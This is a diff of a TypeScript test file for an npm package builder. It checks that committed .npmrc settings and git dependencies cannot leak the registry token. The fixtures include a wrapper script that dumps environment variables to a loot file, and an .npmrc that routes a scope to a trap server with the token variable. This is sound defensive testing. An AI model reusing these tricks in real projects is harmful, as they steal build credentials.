@@ -208,7 +208,7 @@ describe("a .npmrc committed in the tag (npm's project config, above the install
     }
   });
 
-  it('cannot name a program npm runs during the install (git, for a git dependency) while it holds the token; the settings that only shape the install still apply', async () => {
+  it('cannot name a program npm runs during the install (git, for a git dependency: allowed when the install holds no token); the settings that only shape the install still apply', async () => {
     // a git dependency npm clones during the install, with the program the .npmrc names
     const dep = mkdtempSync(join(dir, 'git-dep-'));
     writeFileSync(join(dep, 'package.json'), JSON.stringify({ name: 'git-dep', version: '1.0.0' }));
@@ -219,17 +219,12 @@ describe("a .npmrc committed in the tag (npm's project config, above the install
     const loot = join(dir, `loot-${Math.random().toString(36).slice(2)}`);
     const evil = join(dir, `evil-git-${Math.random().toString(36).slice(2)}.sh`);
     writeFileSync(evil, `#!/bin/sh\nenv >> ${loot}\nexec git "$@"\n`, { mode: 0o755 });
-    const at = checkout('@acme-gh/sly-git', '@acme-gh/build-tool');
-    const manifest = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { dependencies?: Record<string, string> };
-    manifest.dependencies = { 'git-dep': `git+file://${dep}` };
-    writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
+    const at = checkoutOf({ name: 'sly-git', version: '1.0.0', license: 'MIT', scripts: { prepare: 'true' }, dependencies: { 'git-dep': `git+file://${dep}` } });
     writeFileSync(join(at, '.npmrc'), `git=${evil}\npackage-lock=false\nregistry=http://127.0.0.1:9/\n`);
-    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
-    const out = await pack(at, '@acme-gh/sly-git', [source]);
+    const out = await pack(at, 'sly-git');
     expect(existsSync(out.path)).toBe(true);
-    // whatever ran the tag's program (only a step without the token may), it never saw the token
-    expect(existsSync(loot) ? readFileSync(loot, 'utf8') : '').not.toContain(registry.token);
-    expect(existsSync(loot) ? readFileSync(loot, 'utf8') : '').not.toContain('CAM_NPM_SOURCE_TOKEN');
+    // the install (the one step with the network) never ran the tag's program, nor did any later step
+    expect(existsSync(loot)).toBe(false);
     // package-lock=false was the install's too: npm wrote no lockfile; `registry` was not (port 9 answers nothing)
     expect(existsSync(join(at, 'package-lock.json'))).toBe(false);
     expect(existsSync(join(at, 'node_modules', 'git-dep', 'package.json'))).toBe(true);
@@ -564,5 +559,67 @@ describe("the build's time limit (build.timeoutSeconds: per build)", () => {
     const e = await refusal(packNpm({ checkoutDir: at, subdir: '', name: '@acme-gh/slow', version: '1.0.0', outDir: join(dir, `out-${Math.random().toString(36).slice(2)}`), timeoutMs: 8_000, internal: [source] }));
     expect(e.code).toBe('EBUILD');
     expect(e.message).toContain('timed out after 8 s');
+  });
+});
+
+describe("a git dependency, while the install holds a registry token (npm clones it and runs npm in the clone, which reads the clone's own .npmrc)", () => {
+  /** A git repository holding these files, committed. */
+  function gitRepo(files: Record<string, string>): string {
+    const repo = mkdtempSync(join(dir, 'git-dep-'));
+    for (const [name, text] of Object.entries(files)) writeFileSync(join(repo, name), text);
+    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: repo, stdio: 'ignore' });
+    git('init', '-q');
+    git('add', '.');
+    git('commit', '-qm', 'dep');
+    return repo;
+  }
+
+  it("is refused, naming it, before npm clones it: that .npmrc would route the internal scope elsewhere and send the token there (${VAR} is expanded)", async () => {
+    const trap = await startTrap();
+    try {
+      // the dependency's repository: a script (so npm prepares it, running `npm install` in the clone), an
+      // .npmrc routing the internal scope to the trap with the builder's token variable, a dependency there
+      const dep = gitRepo({
+        'package.json': JSON.stringify({ name: 'git-dep-rc', version: '1.0.0', scripts: { prepare: 'true' }, dependencies: { '@acme-gh/build-tool': '1.0.0' } }),
+        '.npmrc': `@acme-gh:registry=${trap.url}\n${trap.url.replace(/^http:/, '')}:_authToken=\${CAM_NPM_SOURCE_TOKEN_0}\n`,
+      });
+      const at = checkout('@acme-gh/sly-dep', '@acme-gh/build-tool');
+      const manifest = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { dependencies?: Record<string, string> };
+      manifest.dependencies = { 'git-dep-rc': `git+file://${dep}` };
+      writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
+      const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
+      const e = await refusal(pack(at, '@acme-gh/sly-dep', [source]));
+      expect(trap.seen).toEqual([]);
+      expect(e.code).toBe('EBUILD');
+      expect(e.message).toContain('git-dep-rc');
+      expect(existsSync(join(at, 'node_modules'))).toBe(false);
+    } finally {
+      await trap.stop();
+    }
+  });
+
+  it('pinned only by the lockfile (a dependency of a dependency), or spelled as a GitHub shorthand: refused too', async () => {
+    const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
+    const lock = {
+      name: '@acme-gh/sly-lock',
+      version: '1.0.0',
+      lockfileVersion: 3,
+      requires: true,
+      packages: {
+        '': { name: '@acme-gh/sly-lock', version: '1.0.0', devDependencies: { '@acme-gh/build-tool': '1.0.0' } },
+        'node_modules/@acme-gh/build-tool': { version: '1.0.0', resolved: `${registry.url.replace(/\/?$/, '/')}@acme-gh/build-tool/-/build-tool-1.0.0.tgz`, dev: true },
+        'node_modules/deep-git': { version: '1.0.0', resolved: 'git+ssh://git@github.com/someone/deep-git.git#0123456789abcdef0123456789abcdef01234567', dev: true },
+      },
+    };
+    const locked = await refusal(pack(checkout('@acme-gh/sly-lock', '@acme-gh/build-tool', { lock }), '@acme-gh/sly-lock', [source]));
+    expect(locked.code).toBe('EBUILD');
+    expect(locked.message).toContain('deep-git');
+    const at = checkout('@acme-gh/sly-short', '@acme-gh/build-tool');
+    const manifest = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { optionalDependencies?: Record<string, string> };
+    manifest.optionalDependencies = { shorty: 'someone/shorty#v1' };
+    writeFileSync(join(at, 'package.json'), JSON.stringify(manifest));
+    const short = await refusal(pack(at, '@acme-gh/sly-short', [source]));
+    expect(short.code).toBe('EBUILD');
+    expect(short.message).toContain('shorty');
   });
 });
